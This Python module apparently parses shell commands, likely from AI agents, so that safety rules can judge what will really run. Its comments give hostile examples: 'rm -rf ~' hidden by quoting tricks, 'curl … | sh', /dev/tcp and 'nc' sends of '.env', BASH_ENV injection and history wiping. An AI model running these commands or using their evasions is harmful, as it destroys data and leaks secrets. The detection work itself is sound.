"""Shell text → ParsedShell, on tree-sitter-bash.

Judges what will run, not the text: quoting, escapes, `${IFS}`, wrappers and paths are removed;
`sh -c`, `eval`, `$(…)`, `<(…)`, heredocs/here-strings fed to shells or interpreters, literal
base64/hex decoded into a shell, and interpreter one-liners are followed, each a layer deeper.
Every walk is bounded by input size, layer depth, syntax depth and node count — deterministic
bounds, no clock — and a bound that trips becomes a ShellIssue the rules turn into a decision.
"""
from __future__ import annotations

import base64
import binascii
import fnmatch
import itertools
import json
import posixpath
import re
import shlex
import threading
from dataclasses import dataclass, field
from typing import Any, Callable, Iterator, Sequence
from urllib.parse import unquote

import tree_sitter as ts
import tree_sitter_bash as tsb

from adr import lazyre
from adr.shell import configdsl, effects, escapes, fleet, interpreters, launchers, trchars
from adr.shell import fds as fdlib
from adr.shell.toolconfigs import FILE_ENVS
from adr.shell import bashwords, generate
from adr.shell import sed as sedlib
from adr.shell.fetches import DOWNLOADERS, download_targets, redirected_download
from adr.shell.fold import fold
from adr.shell.mounts import host_view, shell_word as _word
from adr.shell import netprogs, taskrunners
from adr.shell.netprogs import STDIN_SENDERS, URL_READERS
from adr.shell.params import HOME_MARK, LIKELY_SET, expand_param
from adr.shell.uploads import uploaded_files
from adr.shell.model import FileDelete, FileWrite, ParsedShell, Redirect, Script, ShellIssue, SimpleCommand
from adr.shell.words import (decode_ansi_c, echo_output, positionals, printf_output, pwd_relative, unescape_double_quoted,
                             unescape_word)
from adr.shell.wrappers import glob_program, runner_command, unwrap

MAX_SOURCE = 256 * 1024  # characters of one layer that are parsed; beyond: too-large
MAX_PARAM_OPS = 64  # ${NAME op word} expansions a line may have computed (params.expand_param)
_VAR_REF = lazyre.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?")
_NAME = lazyre.compile(r"[A-Za-z_][A-Za-z0-9_]*")
MAX_VALUE_APPEND = 64 * 1024  # characters `x+=…` grows a known value to
_ARRAY_REF = lazyre.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\[(@|\*|\d{1,4})\]\}")
# a program name that is one variable with a plain default: `${EDITOR:-vim}`, "${PYTHON-python3}"
_DEFAULT_NAME = lazyre.compile(r'"?\$\{[A-Za-z_][A-Za-z0-9_]*:?[-=][\w./+-]+\}"?')
MAX_ASSIGNED = 32  # variables a line leaves set that are reported (ParsedShell.assigned)
MAX_ASSIGNED_VALUE = 4096
MAX_LAYERS = 8  # sh -c inside eval inside $(…) …
MAX_SYNTAX_DEPTH = 150  # nesting of the syntax tree
MAX_NODES = 60_000  # nodes visited over all layers
MAX_COMMANDS = 2_000
MAX_PIPE_NAMES = 256  # distinct programs remembered up/downstream of a pipeline stage
MAX_SEGMENTS = 2_000  # distinct statements judged by the segment pass after the walk stopped
MAX_SEGMENT_CHARS = 8 * 1024
MAX_PARSE_COST = 64 * 1024  # characters tree-sitter parses in one go (each `|` counts as PIPE_PARSE_COST more)
PIPE_PARSE_COST = 8
MAX_SEGMENT_SCAN = 200_000  # separators the segment pass reads before it gives up (then: at least ask)
MAX_DECODED = 1024 * 1024

# file names a program opens to read its own standard input (`bash /dev/stdin`, `python3 /dev/fd/0`)
STDIN_PATHS = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "/proc/thread-self/fd/0"})
SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "csh", "tcsh", "rbash", "yash",
                    "xonsh", "nu", "elvish", "osh", "ysh",  # (these: `-c CMD` and a script on stdin alike)
                    "posh", "oksh", "loksh", "pdksh", "ksh93", "rksh", "rzsh", "hush", "sash", "rc", "es"})
_LANGUAGE = ts.Language(tsb.language())
_URL_RE = lazyre.compile(r"(?i)\b(?:https?|ftp)://[^\s'\"<>|;)]+")
_UNQUOTED_SPLIT = "\x00"
# perl/ruby -n/-p code that runs the line it read: system($_), exec $_, `$_`, qx($_), %x(#{$_})
_RUNS_INPUT_LINE = lazyre.compile(r"\b(?:system|exec|spawn)\b\s*\(?\s*\$_\b|`\s*(?:#\{\s*)?\$_\b|\bqx\s*.\s*\$_\b"
                                  r"|%x.\s*#\{\s*\$_\b|\bopen\s*\(?\s*\w+\s*,\s*['\"]-\|['\"]\s*,\s*\$_\b")
MAX_VIM_COMMANDS = 64  # Ex commands read from an editor's -c/+CMD options or its stdin; more: too-large
MAX_LOOP_VALUES = 16  # a for loop's body is walked once per value up to this many
MAX_LOOP_SHAPES = 128  # past those, once per further shape of value the body uses (digit runs alike); beyond: too-large


def _loop_runs(values: "list[str]", body_text: str, name: str) -> "tuple[list[str], bool]":
    """The values a loop's body is walked with: the first MAX_LOOP_VALUES each; the rest, when the body
    uses the name, one per shape (`f17.txt` … `f900.txt` are one, `{1..1000}` is one) up to
    MAX_LOOP_SHAPES — a 17th value is not lost in a joined walk (`for c in a … q rm; do $c -rf ~; done`),
    and a list past that is reported too large (True). A body that does not use the name: the rest at once."""
    runs = values[:MAX_LOOP_VALUES]
    rest = values[MAX_LOOP_VALUES:]
    if not rest:
        return runs, False
    if not re.search(r"\$\{?[#!]?" + re.escape(name) + r"(?![A-Za-z0-9_])", body_text):
        return runs + [_UNQUOTED_SPLIT.join(rest)], False
    shapes: dict[str, str] = {}
    for v in rest:
        shapes.setdefault(re.sub(r"\d+", "0", v), v)
        if len(shapes) > MAX_LOOP_SHAPES:
            return runs + list(shapes.values())[:MAX_LOOP_SHAPES] + [_UNQUOTED_SPLIT.join(rest)], True
    return runs + list(shapes.values()), False
_BRACE_LIST = lazyre.compile(r"([^'\"\\$`{}\s]*)\{([^'\"\\$`{}\s]*,[^'\"\\$`{}\s]*)\}([^'\"\\$`{}\s]*)")

# a command name that is one PATH lookup of a plain name: `$(which python3)`, "$(command -v node)", `type -P x`
_PATH_LOOKUP_NAME = lazyre.compile(
    r'"?(?:\$\(|`)\s*(?:which|command\s+-v|type\s+-[pP])\s+([A-Za-z0-9_][A-Za-z0-9_.+-]*)\s*(?:\)|`)"?')


_PROGRAM_DIRS = ("/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/",
                 "/opt/homebrew/bin/")


def _program_copied(prog: str, args: "list[str] | tuple[str, ...]") -> "tuple[str, str] | None":
    """`cp|ln -s|install|mv SRC DST` where SRC is an installed program (`/bin/rm`, `$(command -v rm)`,
    `` `which rm` ``): (DST, the program's path); None otherwise (or DST a folder)."""
    ops: list[str] = []
    skip = False
    for a in args:
        if skip:
            skip = False
            continue
        if a.startswith("-") and len(a) > 1:
            if a in ("-t", "--target-directory") or a.startswith("--target-directory="):
                return None
            skip = prog == "install" and a in ("-m", "-o", "-g", "-S", "--mode", "--owner", "--group")
            continue
        ops.append(a)
    if len(ops) != 2 or not ops[1] or ops[1].endswith("/") or ops[1] in (".", ".."):
        return None
    src, dst = ops
    m = _PATH_LOOKUP_NAME.fullmatch(src)
    if m is not None:
        return dst, "/usr/bin/" + m.group(1)
    if src.startswith(_PROGRAM_DIRS) and not any(c in src for c in "*?[$`"):
        return dst, src
    return None


@dataclass
class _Draft:
    """A command being built; frozen into SimpleCommand when its pipeline is known."""

    argv: list[str]
    raw: str
    via: str
    depth: int
    dynamic: bool = False
    sudo: bool = False
    sudo_user: str = ""
    wrappers: tuple[str, ...] = ()
    program_path: str = ""
    redirects: list[Redirect] = field(default_factory=list)
    upstream: list[str] = field(default_factory=list)
    downstream: list[str] = field(default_factory=list)
    stdin_text: str | None = None
    stdin_seen: str | None = None  # (SimpleCommand.stdin_seen)
    heredoc: str | None = None
    output: str | None = None  # statically known stdout, for data-flow into the next stage
    # when `output` is unknown, a part of it that is known (`cat notes.txt <(echo …)`): the next stage
    # gets it as stdin_seen
    output_seen: str | None = None
    template: str | None = None  # stdout with unknown input lines as generate.INPUT (sed 's/^/rm /')
    runs_template: str | None = None  # commands it runs (awk system(…)) with unknown input as INPUT
    args_dynamic: bool = False
    env: tuple[str, ...] = ()  # NAME=value assignments prefixed to the command
    runs_downloaded: str = ""  # a file this same command line downloaded, which this command runs
    piped: bool = False  # stdin comes from an earlier pipeline stage
    reads_environ: bool = False  # its code reads the whole environment (what it prints may be every secret)
    # commands whose output this one prints on (`which git | head -1`, `cat /tmp/p` after `which git >
    # /tmp/p`, `readlink -f $(which git)`): whatever names a changed file through it names it through them
    passes: list["_Draft"] = field(default_factory=list)
    # the commands xargs/parallel run in its place (xargs_on): a pipe wired later reaches them too
    # (`xargs cat <<< "$(ls)" | curl -d @- …`)
    runs_as: list["_Draft"] = field(default_factory=list)
    # the commands of its `-c` script (a shell, `script -c`, a wrapper's command line) that read its stdin
    # — whatever feeds it feeds them: `yes | bash -c 'terraform destroy'`, `bash -c 'nc h 9' < .env`
    stdin_heirs: list["_Draft"] = field(default_factory=list)
    scripts_at: list[int] = field(default_factory=list)  # its inline code's Script (index in the walk's scripts)
    fed_by: list["_Draft"] = field(default_factory=list)  # the pipeline stage before it
    # the commands of a function body or `sh -c` script that get its words as "$@": what computes those
    # words (`f -d "$(cat KEY)" URL`) feeds them
    word_heirs: list["_Draft"] = field(default_factory=list)

    def freeze(self) -> SimpleCommand:
        argv = self.argv
        if argv and argv[0] == "git" and any(e.startswith(("GIT_CONFIG_COUNT=", "GIT_CONFIG_PARAMETERS=")) for e in self.env):
            # config given through the environment is config on the command line: one spelling for the rules
            env = dict(e.partition("=")[::2] for e in self.env)
            argv = [argv[0], *_git_env_config(env), *argv[1:]]
        if argv and argv[0] == "git" and any(a.startswith("--") for a in argv):
            argv = _expand_git_abbrev(argv)
        return SimpleCommand(
            argv=tuple(argv), raw=self.raw, sudo=self.sudo, sudo_user=self.sudo_user,
            wrappers=self.wrappers, redirects=tuple(self.redirects),
            upstream=tuple(dict.fromkeys(self.upstream)), downstream=tuple(dict.fromkeys(self.downstream)),
            via=self.via, depth=self.depth, dynamic=self.dynamic, program_path=self.program_path,
            stdin_text=self.stdin_text, stdin_seen=self.stdin_seen, env=self.env, runs_downloaded=self.runs_downloaded, piped=self.piped,
        )


_PARSERS = threading.local()  # a tree-sitter Parser is not thread-safe; creating one costs ~60 µs


def _parser() -> ts.Parser:
    p = getattr(_PARSERS, "parser", None)
    if p is None:
        p = _PARSERS.parser = ts.Parser(_LANGUAGE)
    return p


def _no_charge(units: int) -> bool:
    return True


class _Walker:
    def __init__(self, charge: "Callable[[int], bool]" = _no_charge) -> None:
        self._charge = charge  # the caller's work budget (adr.engine.core.Budget.spend): False = spent
        self.parser = _parser()
        self.drafts: list[_Draft] = []
        self.writes: list[FileWrite] = []
        self.deletes: list[FileDelete] = []
        self.scripts: list[Script] = []
        self.issues: list[ShellIssue] = []
        self._issue_keys: set[tuple[str, str]] = set()
        self.urls: list[str] = []
        self.layers: list[str] = []  # texts of nested layers (sh -c, eval, decoded …)
        self.downloaded: dict[str, str] = {}  # file path → the downloader that writes it
        self.listed: dict[str, list[str]] = {}  # file path → the find command listing what a lister wrote into it
        self.download_urls: dict[str, str] = {}  # file path → the URL it was downloaded from
        self.git_remotes: dict[str, str] = {}  # remote name → URL added by `git remote add` in this line
        self.procsubs: dict[str, str] = {}  # `<(…)` as written → what it prints, when known
        self.procsub_drafts: dict[str, list[_Draft]] = {}  # `<(…)` as written → the commands it runs
        # (a command, `>(…)` as written, depth): what the command writes there is the commands' stdin
        self.out_feeds: "list[tuple[_Draft, str, int]]" = []
        self.fd_out_procs: dict[str, str] = {}  # `exec 3> >(sh)`: descriptor → the `>(…)` it writes into
        self.fd_texts: dict[str, str] = {}  # `exec 3<<< TEXT`: descriptor → the text reading it gives
        self.procsub_template: str | None = None  # the last `<(…)`'s output made from unknown input
        self.refs: list[str] = []  # variables expanded since the current command began
        self.var_drafts: dict[str, list[_Draft]] = {}  # variable → the commands whose output it holds
        self.printed_to: dict[str, list[_Draft]] = {}  # file path → the commands whose stdout was redirected into it
        self.var_alias: dict[str, str] = {}  # variable → `$OTHER` it was set to (T=$GITHUB_TOKEN)
        self.arrays: dict[str, list[str]] = {}  # a=(w1 w2 …) with literal words: ${a[@]} / ${a[N]} are them
        self.last_array: "list[str] | None" = None
        self.exported: set[str] = set()  # names `export`ed earlier on the line (_INHERITED_ENV)
        self.allexport = False  # `set -a` / `set -o allexport` ran earlier on the line
        self.hashed: dict[str, str] = {}  # `hash -p PATH NAME`: NAME runs PATH
        # functions defined on the line (name → body): a later call runs the body with the call's words as
        # "$@" and the call's stdin, as `sh -c BODY NAME WORDS` would
        self.functions: dict[str, str] = {}
        self.git_aliases: dict[str, str] = {}  # `git config alias.NAME BODY` earlier on the line
        self.moved: dict[str, str] = {}  # `mv SRC DEST`: DEST (and DEST/basename) → SRC
        # where earlier cd/pushd on the line moved, when they name it from / or ~ ("" unknown or relative):
        # `cd ~/.ssh && git pull URL` writes there
        self.cd_root = ""
        self.code_assign: dict[str, str] = {}  # variable → its value as written, when a command computes it
        self.prefix_env: dict[str, str] = {}  # NAME=value words before the command being finished
        self.fds = fdlib.Descriptors()  # `exec 3<.env`: files open on descriptors for the rest of the line
        # `exec 3< <(curl …)`: descriptors open on a process substitution — its commands and its text
        self.fd_substs: "dict[str, tuple[list[_Draft], str]]" = {}
        self.stdin_piped = 0  # > 0 while walking a pipeline stage after the first (its stdin is the pipe)
        self.stdout_piped = 0  # > 0 while walking a stage before the last, or `$(…)` (stdout is captured)
        self.nodes = 0
        self.stopped = False
        self.empty_unknown = False
        self.param_ops = 0  # ${NAME op word} expansions computed (bounded by MAX_PARAM_OPS)
        self.unparsed = False  # the top layer had a syntax error (see _segment_pass, recovering)
        # the top layer has a test whose `[` is glued to more (`[x|| rm -rf ~ ]]`): a word to bash, the
        # command named `[x`, and what follows its `||` runs; tree-sitter-bash read a test and no command
        self.glued_test = False

    # ---- layers -------------------------------------------------------------------------
    def layer(self, text: str, via: str, depth: int, env: dict[str, str] | None = None,
              upstream: tuple[str, ...] = ()) -> list[_Draft]:
        """Parse one layer of shell text; returns the drafts it produced (all of them)."""
        if depth > MAX_LAYERS:
            self.issue("too-deep", f"more than {MAX_LAYERS} nested shell layers", via)
            return []
        if len(text) > MAX_SOURCE:
            self.issue("too-large", f"{len(text)} characters; only the first {MAX_SOURCE} were read", via)
            text = text[:MAX_SOURCE]
        if "\\\n" in text:
            text = join_continuations(text)  # `r`, backslash, newline, `m -rf ~` is `rm -rf ~` to the shell
        plain = _plain_statements(text) if len(text) <= _PLAIN_MAX else None
        if plain is not None:
            return self.plain_layer(text, plain, via, depth, env, upstream)
        cost = len(text) + PIPE_PARSE_COST * text.count("|")
        if cost > MAX_PARSE_COST:
            # tree-sitter holds the interpreter while it parses, ~1 ms per KiB of pipeline stages here:
            # parse a prefix it does in a few ms, and let the segment pass judge the rest
            keep = max(1, int(len(text) * MAX_PARSE_COST / cost))
            self.issue("too-large", f"{len(text)} characters of shell too costly to parse whole; the first "
                                    f"{keep} were parsed", via)
            self.stopped = True if depth == 0 else self.stopped
            text = text[:keep]
        src = _safe_source(text)
        tree = self.parser.parse(src)
        root = tree.root_node
        if root.has_error and b"`" in src and b"#" in src:
            # `rm -rf \`# note\` ~`: a comment inside backticks ends at the closing backtick in bash (the
            # substitution is empty); tree-sitter-bash reads on past it and drops the rest of the line.
            # Blank the comment (same length) and reparse
            src2 = _BACKTICK_COMMENT.sub(_blank_backtick_comment, src)
            if src2 != src:
                tree2 = self.parser.parse(src2)
                if not tree2.root_node.has_error:
                    tree, root, src = tree2, tree2.root_node, src2
        if b"`" in src and _GLUED_BACKTICK.search(src):
            # `r\`:\`m -rf ~` is one word to bash (rm); tree-sitter-bash ends the word at a backtick that
            # follows a letter and reads `r` as the program. Spelled `$(…)` it reads one word: reparse so
            src2 = _glued_backticks_as_dollar(src)
            if src2 != src:
                tree2 = self.parser.parse(src2)
                if not tree2.root_node.has_error:
                    tree, root, src = tree2, tree2.root_node, src2
        if root.has_error and b"{" in src:
            # `{curl,http://x}|sh`: a brace list as the command word is valid bash (brace expansion)
            # but not tree-sitter syntax; spell it out with spaces (same length) and reparse
            src2 = _BRACE_CMD.sub(lambda m: m.group(1) + b" " + m.group(2).replace(b",", b" ") + b" ", src)
            if src2 != src:
                tree2 = self.parser.parse(src2)
                if not tree2.root_node.has_error:
                    tree, root, src = tree2, tree2.root_node, src2
        rw: frozenset[int] = frozenset()
        if root.has_error and b"<>" in src:
            # `exec 3<>/dev/tcp/h/p`: tree-sitter-bash lacks the read-write redirect; read it as `<`
            # (same length, so every byte offset still points into the real text), remembering where
            # each was: file_redirect spells it `<>` again (the file is opened for writing too)
            src2 = _RW_REDIRECT.sub(rb"\1< ", src)
            tree2 = self.parser.parse(src2)
            if not tree2.root_node.has_error:
                rw = frozenset(m.start() + len(m.group(1)) for m in _RW_REDIRECT.finditer(src))
                tree, root, src = tree2, tree2.root_node, src2
        if b"$" in src and _SPLIT_DOLLAR_HINT.search(src):
            # `cat $HOME/$p/credentials`: tree-sitter-bash ends the word at `/$` and starts a new one
            # at `p/credentials` (and `x=$A/$b/c` becomes an assignment and a command `b/c`); bash
            # reads one word with `$p` in it. Spell the split names `${p}` and reparse.
            for _ in range(8):
                src2 = _join_split_dollar(root, src)
                if src2 is None:
                    break
                tree2 = self.parser.parse(src2)
                if tree2.root_node.has_error and not root.has_error:
                    break
                tree, root, src = tree2, tree2.root_node, src2
        if root.has_error:
            closed = _close_open_quote(src)
            if closed is not None:
                # `curl … | sh "`: bash never runs an unterminated line, but tree-sitter's error
                # recovery can drop real commands around the stray quote — judge the line as if the
                # quote were closed (everything that could run is then seen)
                tree2 = self.parser.parse(closed)
                if not tree2.root_node.has_error:
                    self.issue("parse-error", "unterminated quote (judged as if closed)", via)
                    tree, root, src = tree2, tree2.root_node, closed
        if root.has_error:
            self.issue("parse-error", _first_error(root, src), via)
            if depth == 0:
                self.unparsed = True  # tree-sitter's recovery may drop commands bash runs: parse() recovers
        start = len(self.drafts)
        if depth > 0 and len(self.layers) < 32:
            self.layers.append(text)
        self.env = env if env is not None else {}
        self.src_stack.append(src)
        self.rw_stack.append(rw)
        try:
            self.stmt(root, via, depth, 0)
        finally:
            self.src_stack.pop()
            self.rw_stack.pop()
        made = self.drafts[start:]
        if upstream:
            for d in made:
                d.upstream[:0] = list(upstream)
        return made

    def plain_layer(self, text: str, statements: "list[list[PlainStage]]", via: str, depth: int,
                    env: dict[str, str] | None, upstream: tuple[str, ...]) -> list[_Draft]:
        """A layer with only plain words, quotes without expansions and `| && || ;` — most agent
        commands. Same drafts as the syntax-tree walk (a test compares both over whole corpora), at a
        fraction of its cost: no tree to build, no node objects to visit."""
        start = len(self.drafts)
        if depth > 0 and len(self.layers) < 32:
            self.layers.append(text)
        self.env = env if env is not None else {}
        for stmt in statements:
            if self.stopped:
                break  # a bound tripped: the segment pass judges the rest (parse())
            stages: list[list[_Draft]] = []
            for raw, argv, env_prefix in stmt:
                self.nodes += len(argv) + len(env_prefix)
                if not self.charge(1 + (len(argv) + len(raw) // 256) // 8) or not self.budget(1, via):
                    break
                self.prefix_env = dict(kv.partition("=")[::2] for kv in env_prefix) if env_prefix else {}
                try:
                    made = self.finish(argv, raw, via, depth, False, ())
                finally:
                    self.prefix_env = {}
                inherited = self.inherited_env(env_prefix) if made and self.exported else ()
                if made and (env_prefix or inherited):
                    made[0].env = tuple(made[0].env) + inherited + tuple(env_prefix)
                for kv in env_prefix:
                    name, _, value = kv.partition("=")
                    self.env_hook(name, value, via, depth, made[0] if made else None)
                if made and env_prefix:
                    self.git_env_options(made[0], dict(kv.partition("=")[::2] for kv in env_prefix), via, depth)
                stages.append(made)
            if len(stages) > 1:
                self.wire(stages, via, depth)
        made = self.drafts[start:]
        if upstream:
            for d in made:
                d.upstream[:0] = list(upstream)
        return made

    src_stack: list[bytes]
    rw_stack: "list[frozenset[int]]"  # per layer: where a `<>` redirect was (see layer())
    env: dict[str, str]

    def charge(self, units: int) -> bool:
        """Spend work from the caller's budget; when it is gone the walk stops where it is (what was
        walked stays, and the issue makes the verdict at least ask)."""
        if self._charge(units):
            return True
        if not self.stopped:
            self.stopped = True
            self.issue("budget", "the decision's work budget ran out before the whole command was read")
        return False

    def issue(self, kind: str, detail: str, via: str = "") -> None:
        key = (kind, detail)
        if len(self.issues) < 64 and key not in self._issue_keys:
            self._issue_keys.add(key)
            self.issues.append(ShellIssue(kind, detail[:300], via))

    def text(self, node: ts.Node) -> str:
        return self.src_stack[-1][node.start_byte:node.end_byte].decode("utf-8", "replace")

    def budget(self, sdepth: int, via: str) -> bool:
        if self.stopped:
            return False  # past a bound nothing more is walked (or charged): the segment pass takes over
        self.nodes += 1
        if not self.nodes & 3 and not self.charge(1):
            return False
        if self.nodes > MAX_NODES:
            if not self.stopped:
                self.issue("too-many-nodes", f"more than {MAX_NODES} syntax nodes", via)
                self.stopped = True
            return False
        if sdepth > MAX_SYNTAX_DEPTH:
            self.issue("too-deep", f"syntax nested deeper than {MAX_SYNTAX_DEPTH}", via)
            return False
        if len(self.drafts) >= MAX_COMMANDS:
            if not self.stopped:
                self.issue("too-many-commands", f"more than {MAX_COMMANDS} commands", via)
                self.stopped = True
            return False
        return True

    # ---- statements ---------------------------------------------------------------------
    def stmt(self, node: ts.Node, via: str, depth: int, sd: int) -> list[_Draft]:
        """Walk a statement-level node; returns the drafts it produced (for pipeline wiring)."""
        if not self.budget(sd, via):
            return []
        t = node.type
        if t == "command":
            d = self.command(node, via, depth, sd)
            return d
        if t == "pipeline":
            stages, tail = _pipeline_parts(node)
            out = self.pipeline(stages, via, depth, sd)
            for c in tail:
                out.extend(self.stmt(c, via, depth, sd + 1))
            return out
        if t == "redirected_statement":
            return self.redirected(node, via, depth, sd)
        if t == "variable_assignment":
            self.assign(node, via, depth, sd)
            return []
        if t in ("declaration_command", "unset_command"):
            # export/declare/local/readonly/unset are commands too (export HISTFILE=/dev/null)
            argv = [self.text(node.children[0])] if node.children else ["export"]
            nameref = any(self.text(c).startswith("-") and "n" in self.text(c)[1:] for c in node.named_children
                          if c.type == "word")
            for c in node.named_children:
                if c.type == "variable_assignment":
                    self.assign(c, via, depth, sd)
                    n = c.child_by_field_name("name")
                    name = self.text(n) if n is not None else ""
                    target = self.env.get(name, "")
                    if nameref and _NAME.fullmatch(target):
                        # declare -n r=HOME: `$r` is `$HOME`
                        self.env.pop(name, None)
                        self.var_alias[name] = "$" + target
                    argv.append(f"{name}={self.env.get(name, '')}" if name in self.env else self.text(c))
                    if argv[0] == "export" or argv[0] in ("declare", "typeset") and any(
                            self.text(w).startswith("-") and "x" in self.text(w) for w in node.named_children
                            if w.type == "word"):
                        self.exported.add(name)
                else:
                    vals, _ = self.word(c, via, depth, sd + 1)
                    argv.extend(vals)
                    if argv[0] == "export" and c.type in ("variable_name", "word") and _NAME.fullmatch(vals[0] if vals else ""):
                        self.exported.add(vals[0])  # `X=…; export X`: exported from here on
            if argv[0] == "unset" and _same_shell(via) and "PATH" in argv[1:] and not any(a.startswith("-") and "f" in a
                                                                                  for a in argv[1:]):
                self.path_reset("", via)  # `unset PATH`: only the shell's built-in default is left
            d = _Draft(argv=argv, raw=self.text(node), via=via, depth=depth)
            self.drafts.append(d)
            return [d]
        if t in ("heredoc_body", "comment", "heredoc_start", "heredoc_end"):
            return []
        if t == "function_definition":
            body = node.child_by_field_name("body")
            name = node.child_by_field_name("name")
            if name is not None and body is not None and len(self.functions) < 64:
                self.functions[self.text(name)] = self.text(body)
            return self.stmt(body, via, depth, sd + 1) if body is not None else []
        if t == "for_statement":
            return self.for_loop(node, via, depth, sd)
        if t == "test_command" and depth == 0:
            head = self.src_stack[-1][node.start_byte:node.start_byte + 2]
            # (and a `[` test over more than one line: to bash a newline ends the `[` command — `[⏎rm -rf ~ ]`)
            if head not in (b"[ ", b"[\t", b"[\n", b"[[") or head != b"[[" and b"\n" in self.src_stack[-1][
                    node.start_byte:node.end_byte]:
                self.glued_test = True
        out = []
        for c in node.named_children:
            if c.type in ("string", "word", "raw_string", "concatenation", "simple_expansion", "expansion",
                          "number", "variable_name", "test_operator"):
                # for/case values and test operands are data, but command substitutions in them run
                self.substitutions_in(c, via, depth, sd + 1)
                continue
            out.extend(self.stmt(c, via, depth, sd + 1))
        return out

    def for_loop(self, node: ts.Node, via: str, depth: int, sd: int) -> list[_Draft]:
        """`for f in A B GLOB; do … $f …; done`: the body as it runs with each value (a glob stays a
        glob: the rules judge what it can reach), so `sed -i … "$f"` is judged on ~/.config/adr/*.
        Past MAX_LOOP_VALUES values, one more walk takes the rest at once (as separate fields).
        Values computed at run time ($(…), $@): the body is walked once with the name unknown."""
        var = node.child_by_field_name("variable")
        body = node.child_by_field_name("body")
        name = self.text(var) if var is not None else ""
        values: list[str] = []
        dynamic = False
        before = len(self.drafts)
        for c in node.children_by_field_name("value"):
            fields, dyn = self.word(c, via, depth, sd + 1)  # substitutions in the list run here
            dynamic = dynamic or dyn
            values += fields
        made = [d for d in self.drafts[before:] if d.argv]
        if name and made:
            self.var_drafts[name] = made[:16]  # `for l in $(base64 f)`: $l holds their output (upstream)
        elif name:
            self.var_drafts.pop(name, None)
        if body is None:
            return []
        self.var_alias.pop(name, None)
        printed = _printed_paths(made[0]) if dynamic and len(made) == 1 and made[0].argv[:1] == ["ls"] else None
        if name and printed and not values[1:] and values[0].startswith("$"):
            values, dynamic = printed, False  # `for f in $(ls)`: the entries ls prints (as `ls | while read f`)
        if not name or dynamic or not values:
            self.env.pop(name, None)
            walked = self.stmt(body, via, depth, sd + 1)
            if dynamic and len(made) == 1 and made[0].output is None:
                self.loop_deletes(_as_find(made[0].argv), name, walked, via, depth)
                self.loop_writes(_as_find(made[0].argv), name, walked, via, depth)
            return walked
        values = list(dict.fromkeys(values))
        runs, over = _loop_runs(values, self.text(body), name)
        if over:
            self.issue("too-large", f"a for loop over {len(values)} values; its body was walked with "
                       f"{len(runs) - 1} of them", via)
        out: list[_Draft] = []
        for v in runs:
            self.env[name] = v
            out.extend(self.stmt(body, via, depth, sd + 1))
        self.env[name] = values[-1]  # as in bash: the last value stays
        return out

    def assign(self, node: ts.Node, via: str, depth: int, sd: int) -> None:
        name_node = node.child_by_field_name("name")
        value_node = node.child_by_field_name("value")
        if name_node is not None and name_node.type == "subscript":
            self.substitutions_in(name_node, via, depth, sd + 1)  # a[$(cmd)]=x runs cmd
        name = self.text(name_node) if name_node is not None else ""
        if name_node is not None and name_node.type == "subscript" and value_node is not None and \
                name.startswith(("BASH_ALIASES[", "BASH_CMDS[")):
            key = name[name.index("[") + 1:-1].strip("'\"")
            vals, _ = self.word(value_node, via, depth, sd + 1)
            body = " ".join(vals)
            if name.startswith("BASH_CMDS[") and key and body and len(self.hashed) < 32:
                self.hashed[key] = body  # `BASH_CMDS[x]=/bin/rm; x -rf ~`: bash's command table (hash -p)
            elif body:
                # `BASH_ALIASES[x]='rm -rf ~'`: an alias definition (`alias x=…`)
                before = len(self.issues)
                self.nested_shell(body, via, depth, f"alias {key}", inherit=None)
                self.issues[before:] = [i for i in self.issues[before:]
                                        if i.kind not in ("dynamic-command", "eval-dynamic")]
            return
        if name == "PATH" and _same_shell(via) and not any(c.type == "+=" for c in node.children):
            self.path_reset(self.text(value_node) if value_node is not None else "", via)
        if name == "PATH" and _same_shell(via) and value_node is not None:
            # its literal folders (`/tmp/t:$PATH` → /tmp/t), kept even when the rest is known only at run time
            self.path_dirs = [q for q in (pwd_relative(p) for p in self.text(value_node).strip("'\"").split(":"))
                              if q and "$" not in q and "`" not in q and "'" not in q and '"' not in q][:8]
        if value_node is None:
            self.env[name] = ""
            return
        before = len(self.drafts)
        refs_before = len(self.refs)
        vals, dyn = self.word(value_node, via, depth, sd + 1)
        made = [d for d in self.drafts[before:] if d.argv]
        for ref in self.refs[refs_before:]:  # k2=$k: the sources travel on
            made += [d for d in self.var_drafts.get(ref, ()) if d not in made]
        del self.refs[refs_before:]
        if made:
            self.var_drafts[name] = made[:16]
        else:
            self.var_drafts.pop(name, None)
        if dyn:
            self.env.pop(name, None)
            raw = self.text(value_node)
            if name and ("$(" in raw or "`" in raw) and len(raw) <= MAX_ASSIGNED_VALUE:
                self.code_assign[name] = raw  # `K="$(cat .env)"`: a later call's `$K` is that output
            else:
                self.code_assign.pop(name, None)
            # `T=$GITHUB_TOKEN` (or "${GITHUB_TOKEN}"): a later `$T` is that variable, unknown all the same
            ref = _VAR_REF.fullmatch(" ".join(vals)) if len(vals) == 1 else None
            if ref is not None and ref.group(1) != name:
                self.var_alias[name] = "$" + ref.group(1)
            else:
                self.var_alias.pop(name, None)
            if name in ("BASH_ENV", "ENV") and raw.startswith("<(") and raw.endswith(")"):
                self.env_hook(name, raw, via, depth, None)  # `export BASH_ENV=<(curl …)`: sourced where shells start
        if not dyn and any(c.type == "+=" for c in node.children):
            # `x+=m`, `a+=(-rf ~)`: appended to what the name held (not known here: unknown)
            is_array = value_node.type == "array" and self.last_array is not None
            if name in self.arrays and is_array:
                self.arrays[name] = (self.arrays[name] + list(self.last_array or ()))[:64]
                self.env[name] = " ".join(self.arrays[name])
                self.env_hook(name, self.env[name], via, depth, None)
            elif name in self.env and name not in self.arrays and not is_array:
                self.env[name] = (self.env[name] + " ".join(vals))[:MAX_VALUE_APPEND]
                self.env_hook(name, self.env[name], via, depth, None)
            else:
                self.arrays.pop(name, None)
                self.env.pop(name, None)
                self.var_alias.pop(name, None)
            self.code_assign.pop(name, None)
        else:
            if value_node.type == "array" and not dyn and self.last_array is not None:
                self.arrays[name] = list(self.last_array)
            else:
                self.arrays.pop(name, None)
            if not dyn:
                self.var_alias.pop(name, None)
                self.code_assign.pop(name, None)
                self.env[name] = " ".join(vals)
                self.env_hook(name, self.env[name], via, depth, None)
        if self.allexport and name:
            self.exported.add(name)  # after `set -a` every assignment is exported

